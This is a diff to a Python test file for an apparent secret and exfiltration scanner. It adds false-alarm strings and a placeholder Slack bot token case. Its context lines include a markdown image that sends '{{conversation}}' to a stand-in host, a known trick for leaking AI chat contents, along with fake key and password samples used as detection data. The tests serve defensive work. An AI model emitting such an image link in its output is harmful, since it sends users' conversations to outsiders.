@@ -54,6 +54,9 @@ FALSE_ALARMS = [
     "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
     f"-----BEGIN PRIVATE KEY-----\n{'x' * 64}\n",
     "Keep the private key to yourself.",
+    "Sign in by SSO or e-mail, then pass an API key to https://a.invalid.",
+    '"SLACK_BOT_TOKEN": "xoxb-your-bot-token"',
+    f'<img src="https://img.shields.io/badge/x?logo=data:image/svg+xml;base64,{"QUJD" * 40}">',
     "[![npm](https://img.shields.io/npm/v/pkg?style=flat&label=a%7Bb)](https://a.invalid)",
     "![ci](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)",
 ]
@@ -107,6 +110,7 @@ def test_text_in_tag_characters_is_read() -> None:
         ("![x](https://t.invalid/p.png?q={{conversation}})", "high"),
         ("![x](https://t.invalid/p.png?id=1)", "low"),
         ("password: hq7Zk29xLw84TbVn10Rmc", "medium"),
+        ("token = xoxb-" + "1234567890-abcdefghij", "high"),
         (f"-----BEGIN RSA PRIVATE KEY-----\n{KEY_MATERIAL}", "high"),
         (f'key = "-----BEGIN PRIVATE KEY-----\\n{KEY_MATERIAL}\\n"', "high"),
         (f"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES,0A\n\n{KEY_MATERIAL}", "high"),
